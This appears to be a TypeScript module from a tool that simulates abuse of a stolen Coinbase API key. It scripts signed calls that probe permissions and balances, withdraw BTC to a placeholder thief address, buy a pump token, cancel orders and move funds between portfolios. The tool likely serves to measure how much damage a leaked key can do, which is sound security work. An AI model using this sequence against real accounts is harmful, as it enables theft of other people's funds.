import { isJsonFault, isJsonObject, parseJson } from '../../../core/index.ts';
import type { Param, ThiefCall, ThiefHand, ThiefSeen } from '../../front.ts';
import { signCoinbase } from './auth.ts';
import { spellAsset } from './names.ts';

const V3 = '/api/v3/brokerage';

function call(method: string, path: string, ...params: Param[]): ThiefCall {
  return { method, host: 'api.coinbase.com', path, params };
}

/** What someone does with a stolen Coinbase key, in the order in which it pays. */
export const coinbaseThief: ThiefHand = {
  sign: signCoinbase,
  worked: (status, body) => {
    const value = parseJson(body);
    return status === 200 && !isJsonFault(value) && isJsonObject(value) && !/"success":\s*false/.test(body);
  },
  steps: [
    {
      name: 'probe',
      calls: () => [
        call('GET', `${V3}/key_permissions`),
        call('GET', `${V3}/accounts`, ['limit', '250']),
        call('GET', `${V3}/portfolios`),
        call('GET', `${V3}/orders/historical/batch`, ['order_status', 'OPEN']),
      ],
    },
    {
      name: 'withdraw',
      calls: () => [
        call(
          'POST',
          `/v2/accounts/${spellAsset('BTC')}/transactions`,
          ['type', 'send'],
          ['to', 'the-address-of-the-thief'],
          ['amount', '0.25'],
          ['currency', 'BTC'],
        ),
      ],
    },
    {
      name: 'buy',
      calls: () => [
        call(
          'POST',
          `${V3}/orders`,
          ['client_order_id', 'a-thief'],
          ['product_id', 'PUMP-USDT'],
          ['side', 'BUY'],
          ['order_configuration', '{"market_market_ioc":{"quote_size":"500"}}'],
        ),
      ],
    },
    {
      name: 'cancel',
      calls: (seen) => [call('POST', `${V3}/orders/batch_cancel`, ['order_ids', JSON.stringify(openIn(seen))])],
    },
    {
      name: 'transfer',
      calls: (seen) => {
        const [source = '', target = ''] = textsAt(seen, '/portfolios', 'uuid');
        return [
          call(
            'POST',
            `${V3}/portfolios/move_funds`,
            ['funds', '{"value":"100","currency":"USDT"}'],
            ['source_portfolio_uuid', source],
            ['target_portfolio_uuid', target],
          ),
        ];
      },
    },
  ],
};

function openIn(seen: readonly ThiefSeen[]): string[] {
  return textsAt(seen, '/batch', 'order_id');
}

/** The texts that stand under a name in what the probe saw. */
function textsAt(seen: readonly ThiefSeen[], path: string, name: string): string[] {
  const body = seen.find((one) => one.call.path.endsWith(path))?.body ?? '';
  return [...body.matchAll(new RegExp(`"${name}":"([^"]+)"`, 'g'))].map((match) => match[1]!);
}
